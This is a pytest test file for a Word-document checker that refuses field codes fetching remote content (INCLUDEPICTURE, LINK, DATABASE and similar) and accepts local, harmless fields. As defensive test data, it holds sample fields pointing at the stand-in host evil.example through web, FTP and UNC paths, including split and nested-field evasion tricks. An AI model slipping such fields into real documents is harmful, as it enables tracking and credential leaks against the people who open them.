r"""Word field codes that fetch from the network when a coordinator opens the file
(security.md, "Files and logs"): refused like external relationships, with one
`fichier_illisible` finding that says what to send instead. Local, harmless
fields stay readable.

Every document is real WordprocessingML built by tests/docx_factory.py: a field
as Word writes it (fldChar begin, w:instrText runs, separate, result, end; or
w:fldSimple), in the body or in a header, a footer, the footnotes. Inside an
instruction, Word writes a backslash twice: the UNC path \\host\share is
"\\\\host\\share" there.
"""

from __future__ import annotations

import json

import pytest
from conftest import run_cli
from docx_factory import (
    FOOTER,
    FOOTNOTES,
    HEADER,
    docx,
    field,
    header_reference,
    p,
    rel,
    section,
    simple_field,
    story,
)
from sample_fiche import fiche

from bot.form.check import check_bytes
from bot.form.docxfile import parse_xml
from bot.form.fieldcodes import NESTED, field_codes

TITLE = "Compte rendu de la réunion du 3 mars"


@pytest.fixture(scope="module")
def message(rules) -> str:
    return rules.file_findings["fichier_illisible"]["messages"]["linked_field"]


def notes(*inline: str, **package) -> bytes:
    """A small Word document that is not a fiche, with `inline` in its second paragraph."""
    return docx(p(TITLE) + p("Logo : ", *inline), **package)


def assert_refused(data: bytes, message: str) -> None:
    result = check_bytes(data)
    assert result.kind == "illisible", result.findings
    assert [(f.code, f.severity, f.message) for f in result.findings] == [("fichier_illisible", "error", message)]


def assert_readable(data: bytes) -> None:
    result = check_bytes(data)
    assert result.kind == "inconnu", result.findings
    assert [f.code for f in result.findings] == ["fiche_non_reconnue"]


def test_the_message_says_what_to_send_instead_in_the_words_of_the_other_refusals(message, rules):
    external = rules.file_findings["fichier_illisible"]["messages"]["external"]
    advice = "au format Word .docx, sans contenu lié, sans mot de passe, puis renvoyez-le."
    assert external.endswith(advice) and message.endswith(advice)
    assert "INCLUDEPICTURE" in message and "par sécurité" in message
    assert "Collez l'image ou le texte eux-mêmes à la place du champ" in message


# -- refused --------------------------------------------------------------------
REFUSED = {
    # What Word writes for a picture pasted from a web page, "\d": not stored, fetched at each opening.
    "word's linked picture": field(r' INCLUDEPICTURE  "https://evil.example/pixel.png" \* MERGEFORMATINET \d '),
    # Word splits an instruction across runs wherever an edit (or an attacker) put a boundary.
    "split across runs": field(" INCLUDEPICTURE \"ht", "tps://evil.exa", "mple/pixel.png\" \\* MERGE",
                               "FORMATINET "),
    "http": field(r' INCLUDEPICTURE "http://evil.example/pixel.png" '),
    "ftp": field(r' INCLUDEPICTURE "ftp://evil.example/pixel.png" \d '),
    "UNC path": field(r' INCLUDEPICTURE "\\\\evil.example\\share\\logo.png" \* MERGEFORMAT '),
    "UNC path with slashes": field(r' INCLUDETEXT "//evil.example/share/annexe.docx" '),
    "file: URL to another host": field(r' INCLUDETEXT "file://evil.example/share/annexe.docx" \* MERGEFORMAT '),
    "UNC path as a file: URL": field(r' INCLUDEPICTURE "file:////evil.example/share/logo.png" '),
    "unquoted, old name": field(" IMPORT http://evil.example/logo.png "),
    "lower case": field(r' includepicture "https://evil.example/logo.png" '),
    "INCLUDETEXT https": field(r' INCLUDETEXT "https://evil.example/annexe.docx" \! '),
    "LINK to a share": field(r' LINK Excel.Sheet.12 "\\\\evil.example\\partage\\budget.xlsx" "Feuil1!L1C1:L5C3" '
                             r'\a \f 4 \h '),
    "LINK to a web address": field(r' LINK Word.Document.12 "https://evil.example/annexe.docx" "" \a \t '),
    "DATABASE on a share": field(r' DATABASE \d "\\\\db.example\\bases\\contacts.mdb" '
                                 r'\c "Provider=Microsoft.ACE.OLEDB.12.0" \s "SELECT * FROM contacts" '),
    "another field naming a share": field(r' QUOTE "\\\\evil.example\\share\\texte.txt" '),
    "fldSimple": simple_field(r' INCLUDEPICTURE "https://evil.example/pixel.png" \* MERGEFORMATINET \d '),
    # Where Word looks is computed when it looks: a document property can hold any URL.
    "its file computed by a nested field": field(' INCLUDEPICTURE "', field(" DOCPROPERTY logo "), '" \\d '),
    # { QUOTE "INCLUDEPICTURE" } spells the keyword: a known way to hide a field.
    "its keyword computed by a nested field": field(field(' QUOTE "INCLUDEPICTURE" '), " ",
                                                   field(" DOCPROPERTY logo "), r" \d "),
}


@pytest.mark.parametrize("inline", list(REFUSED.values()), ids=list(REFUSED))
def test_a_field_that_fetches_from_the_network_is_refused(inline, message):
    assert_refused(notes(inline), message)


# Word updates the fields of every story when it opens a file, not only the body's.
PARTS = {
    "header": ("word/header1.xml", HEADER, "header", "hdr"),
    "footer": ("word/footer1.xml", FOOTER, "footer", "ftr"),
    # A part is what its content type says, whatever its name.
    "header named oddly": ("word/entete", HEADER, "header", "hdr"),
}
PICTURE = field(r' INCLUDEPICTURE "\\\\evil.example\\share\\logo.png" \* MERGEFORMATINET \d ')


def with_part(where: str, content: str, *, encoding: str = "utf-8") -> bytes:
    name, content_type, kind, tag = PARTS[where]
    xml = story(tag, p(content))
    if encoding != "utf-8":
        xml = xml.replace('encoding="UTF-8"', f'encoding="{encoding.upper()}"').encode(encoding)
    return docx(p(TITLE) + section(header_reference("rId7", kind)),
                document_rels=rel("rId7", kind, name.removeprefix("word/")), parts={name: (content_type, xml)})


@pytest.mark.parametrize("where", list(PARTS))
def test_a_field_in_a_header_or_footer_is_refused_too(where, message):
    assert_refused(with_part(where, PICTURE), message)


def test_a_field_in_a_header_written_in_utf16_is_refused_too(message):
    assert_refused(with_part("header", PICTURE, encoding="utf-16"), message)


def test_a_field_in_a_footnote_is_refused_too(message):
    footnotes = story("footnotes", f'<w:footnote w:id="1">{p("Source : ", PICTURE)}</w:footnote>')
    data = docx(p(TITLE) + p("Voir la note."), document_rels=rel("rId8", "footnotes", "footnotes.xml"),
                parts={"word/footnotes.xml": (FOOTNOTES, footnotes)})
    assert_refused(data, message)


def test_a_complete_fiche_with_a_linked_picture_in_its_header_exits_2_through_the_cli(tmp_path, message):
    header = story("hdr", p(PICTURE))
    data = fiche(after=section(header_reference("rId7")), document_rels=rel("rId7", "header", "header1.xml"),
                 parts={"word/header1.xml": (HEADER, header)})
    assert check_bytes(fiche()).valid  # the same fiche without its header is valid
    path = tmp_path / "fiche-projet.docx"
    path.write_bytes(data)
    run = run_cli("check", str(path), "--json", cwd=tmp_path)
    assert run.returncode == 2, (run.stdout, run.stderr)
    assert "Traceback" not in run.stderr
    result = json.loads(run.stdout)
    assert (result["kind"], result["valid"]) == ("illisible", False)
    assert result["findings"] == [{"code": "fichier_illisible", "severity": "error", "field": None,
                                   "message": message}]


# -- accepted -------------------------------------------------------------------
ACCEPTED = {
    "PAGE": field(" PAGE "),
    "NUMPAGES as fldSimple": simple_field(" NUMPAGES "),
    "DATE": field(r' DATE \@ "dd/MM/yyyy" '),
    "MERGEFIELD": field(r" MERGEFIELD Nom_du_porteur \* MERGEFORMAT "),
    "IF around a MERGEFIELD": field(" IF ", field(" MERGEFIELD civilite "), ' = "Mme" "Madame" "Monsieur" '),
    "TOC": field(r' TOC \o "1-3" \h \z \u '),
    "formula": field(" = 10 / 2 "),
    # A hyperlink is followed only when clicked, as hyperlink relationships, accepted.
    "HYPERLINK to a web page": field(r' HYPERLINK "https://www.lievin.fr/cite-educative" '),
    "HYPERLINK split, with an anchor": field(' HYPERLINK "https://books.example.org/b?id=1&pg=19" ',
                                             r'\l "page19" '),
    "HYPERLINK as fldSimple": simple_field(r' HYPERLINK "mailto:camille.martin@example.org" '),
    # Zotero's and Mendeley's citations: the add-in's data holds URIs that Word never fetches.
    "ADDIN of a citation manager": field(
        ' ADDIN ZOTERO_ITEM CSL_CITATION {"citationID":"a1","citationItems":[{"uris":'
        '["http://zotero.org/users/1/items/ABCD"]}]} '),
    # Local paths are inert, as for external relationships (a porteur's own Normal.dotx).
    "INCLUDEPICTURE on the porteur's disk": field(r' INCLUDEPICTURE "C:\\Users\\camille\\Images\\logo.png" '
                                                  r'\* MERGEFORMAT '),
    "INCLUDEPICTURE as a local file: URL": field(r' INCLUDEPICTURE "file:///C:/Users/camille/logo.png" \d '),
    "LINK to a local workbook": field(r' LINK Excel.Sheet.12 "C:\\Users\\camille\\budget.xlsx" "Feuil1!L1C1:L5C3" '
                                      r'\a \f 4 \h '),
}


@pytest.mark.parametrize("inline", list(ACCEPTED.values()), ids=list(ACCEPTED))
def test_a_local_or_harmless_field_stays_readable(inline):
    assert_readable(notes(inline))


def test_a_page_number_in_a_header_stays_readable():
    assert_readable(with_part("header", field(" PAGE ")))


def test_a_fiche_with_page_numbers_and_a_link_to_the_call_stays_a_valid_fiche():
    footer = story("ftr", p("Page ", field(" PAGE "), " sur ", simple_field(" NUMPAGES "), " — ",
                            field(r' HYPERLINK "https://www.lievin.fr/cite-educative" ', result="lievin.fr")))
    data = fiche(after=section(header_reference("rId7", "footer")), document_rels=rel("rId7", "footer", "footer1.xml"),
                 parts={"word/footer1.xml": (FOOTER, footer)})
    result = check_bytes(data)
    assert result.kind == "fiche_projet" and result.valid, result.findings


# -- how an instruction is put together ----------------------------------------
def test_an_instruction_split_across_runs_is_read_whole_and_a_nested_field_on_its_own():
    xml = story("hdr", p(field(' INCLUDEPICTURE "', field(" DOC", "PROPERTY logo "), '" \\', "d ")))
    codes = [code.instruction for code in field_codes(parse_xml(xml.encode()))]
    assert codes == [" DOCPROPERTY logo ", f' INCLUDEPICTURE "{NESTED}" \\d ']
